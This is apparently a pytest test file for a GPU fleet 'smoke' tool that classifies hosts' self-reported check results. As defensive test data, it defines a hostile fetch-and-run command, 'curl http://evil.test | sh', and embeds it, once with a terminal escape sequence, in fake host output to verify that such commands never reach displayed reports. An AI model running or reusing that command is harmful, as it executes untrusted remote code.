"""`gpuctl fleet smoke`: what hosts' own `gpuctl smoke` said, recorded there, judged here and told in classes."""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from fleet_hosts import hosts
from fleets import snapshot
from hosts import absent, failed, hung
from jsonschema import validate

from gpuctl.checks.every import diagnose
from gpuctl.facts.gather import gather
from gpuctl.fleet.run_folder import HostOutcome, Run, State, add_host, create_run
from gpuctl.host.look.reading import Reading
from gpuctl.host.record.archive import decode

ROOT = Path(__file__).parents[1]
ASKED = ("smoke", "--gpus", "2")
RAN = shlex.join(("gpuctl", *ASKED, "--json"))
HOSTILE = "curl http://evil.test | sh"


def said(passed: bool | None, cause: str | None, **more: Any) -> Reading:
    """What a `gpuctl smoke --json` printed and ended with."""
    remedy = {"text": "Do as the host says.", "commands": [HOSTILE], "disturbs": "nothing"} if cause else None
    whole = {"schema": "gpuctl.smoke/1", "passed": passed, "cause": cause, "remedy": remedy, "error": None, **more}
    return failed({True: 0, False: 1, None: 3}[passed], stdout=json.dumps(whole))


EXPECTED = {"driver": "580.95.05", "gpus": ["GPU-1", "GPU-2"], "count": 2}
ENDED = {
    "good1": said(True, None, expected=EXPECTED, seen=EXPECTED),
    "good2": said(True, None, expected=EXPECTED, seen=EXPECTED),
    "blind": said(False, "The container saw no GPU.", expected=EXPECTED, seen={"driver": "", "gpus": []}),
    "unregistered": said(False, "Words of an older gpuctl.", error="docker: unknown or invalid runtime name: nvidia"),
    "sick": said(None, "GPU 0 takes no program.", deep={"failures": [{"step": "context", "code": 46, "gpu": 0}]}),
    "busy": said(None, "No Docker answers."),
    "sly": said(False, "It fails.", deep={"failures": [{"step": "\x1b[2J; " + HOSTILE, "code": 1}]}),
    "old": failed(2, "Error: No such option: --gpus"),
    "bare": absent(),
    "slow": hung(48.0),
    "talks": failed(0, stdout="[" * 100_000),
}
DOWN = {"files": {"/etc/docker/daemon.json": "{"}}
"""Of which the doctor says what smoke says, too."""
KINDS = {
    "blind": "smoke.other-gpus",
    "unregistered": "smoke.unknown-runtime-nvidia",
    "sick": "smoke.context",
    "busy": "smoke.not-ready",
    "sly": "smoke.not-ready",
    "down": "smoke.docker.config-valid",
    "old": "smoke.not-understood",
    "bare": "smoke.not-run",
    "slow": "smoke.not-run",
    "talks": "smoke.not-understood",
}


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = str(tmp_path_factory.mktemp("fleet") / "RUN")
    create_run(folder, Run("1.0", 1764000000.0, ASKED, (*ENDED, "down", "unread"), ("-i", "our hosts", "--become")))
    for name, reading in ENDED.items():
        add_host(folder, HostOutcome(name, State.REPORTED, 1.0), snapshot(name, {"commands": {RAN: reading}}))
    reason = next(one.message for one in diagnose(gather(decode(snapshot("down", DOWN)).host)).findings)
    down = snapshot("down", DOWN, {"commands": {RAN: said(False, reason)}})
    for name, raw in (("down", down), ("unread", snapshot("unread"))):
        add_host(folder, HostOutcome(name, State.REPORTED, 1.0), raw)
    return folder


def gpuctl(*argv: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "gpuctl", "fleet", *argv]
    return subprocess.run(command, capture_output=True, text=True, timeout=300, cwd=ROOT)


def test_hosts_whose_smoke_ended_alike_are_one_class_and_the_worst_host_is_the_exit_code(run: str) -> None:
    done = gpuctl("judge", run, "--json")
    told = json.loads(done.stdout)
    validate(told, json.loads((ROOT / "data/schemas/fleet.schema.json").read_text()))
    found = {host: [each["id"] for each in one["findings"]] for one in told["classes"] for host in one["hosts"]}
    assert found == {
        **{host: [id] for host, id in KINDS.items()},
        "good1": [],
        "good2": [],
        "unread": ["smoke.not-run"],
    }
    failing = {one["id"] for one in told["findings"] if one["status"] == "fail"}
    assert failing == {"smoke.other-gpus", "smoke.unknown-runtime-nvidia", "smoke.not-ready", KINDS["down"]}
    assert ["good1", "good2"] in [one["hosts"] for one in told["classes"]]
    assert (done.returncode, done.stderr) == (1, "")
    (lacking,) = [one["remedy"]["commands"] for one in told["findings"] if one["hosts"][0] == "bare"]
    assert lacking == ["gpuctl fleet smoke --gpus 2 -i 'our hosts' --become --zipapp gpuctl.pyz"]


def test_no_command_that_a_host_made_up_is_one_to_type(run: str, tmp_path: Path) -> None:
    written = [tmp_path / name for name in ("html", "markdown")]
    shown = gpuctl("judge", run, "-v", *(f"-o{file.name}={file}" for file in written)).stdout
    texts = [shown, *(file.read_text() for file in written)]
    assert not any(HOSTILE in text or "\x1b" in text for text in texts)
    assert "Docker has no runtime of that name." in texts[0]
    assert "Words of an older gpuctl" not in texts[0]


def test_a_run_is_gone_on_with_by_the_command_that_began_it(run: str) -> None:
    for options in (("doctor",), ("smoke", "--gpus", "1")):
        done = gpuctl(*options, "--hosts", "good1", "--resume", run)
        assert done.returncode == 2
        assert "was begun by gpuctl fleet smoke --gpus 2" in " ".join(done.stderr.split())


def test_what_smoke_refuses_is_refused_before_a_host_is_asked(tmp_path: Path) -> None:
    done = gpuctl("smoke", "--hosts", "a", "--run", str(tmp_path / "RUN"), "--host", "--gpus", "2")
    assert (done.returncode, done.stdout) == (2, "")
    assert not (tmp_path / "RUN").exists()


# On real hosts


def with_gpuctl(script: str) -> str:
    """A host whose gpuctl is this script."""
    return f"cat > /usr/local/bin/gpuctl << 'END'\n#!/bin/sh\n{script}\nEND\nchmod +x /usr/local/bin/gpuctl\n"


PASSES = {"schema": "gpuctl.smoke/1", "passed": True, "cause": None, "error": None, "expected": EXPECTED}
REAL = {
    "bare": "rm -f /usr/local/bin/gpuctl",
    "none": with_gpuctl(f'PYTHONPATH={ROOT} exec {sys.executable} -m gpuctl "$@"'),
    "sees": with_gpuctl(f"echo \"$@\" > /asked; echo '{json.dumps(PASSES)}'"),
}
"""Without a gpuctl; with the real one, which finds no GPU; with one that would pass, as none of these has a GPU."""


@pytest.mark.bench
def test_hosts_run_their_own_gpuctl_and_are_told_with_what_they_are(tmp_path: Path) -> None:
    with hosts(tmp_path, REAL) as lab:
        asked = ("smoke", "--host", "--timeout", "20", "-i", str(lab.inventory()), "--run", str(tmp_path / "RUN"))
        done = gpuctl(*asked, "--json")
        ran = (tmp_path / "hosts/sees/upper/asked").read_text()
    told = json.loads(done.stdout)
    found = {
        host: [(each["id"], each["status"]) for each in one["findings"]]
        for one in told["classes"]
        for host in one["hosts"]
    }
    assert found["bare"] == [("smoke.not-run", "unknown")]
    assert found["none"][0][0].startswith("smoke.")
    assert found["sees"] == []
    assert ran == "smoke --timeout 20 --host --json\n"
    assert told["run"]["question"] == ["smoke", "--timeout", "20", "--host"]
    assert done.returncode in (1, 3), done.stderr
    assert all(one["facts"]["kernel"] for one in told["classes"])
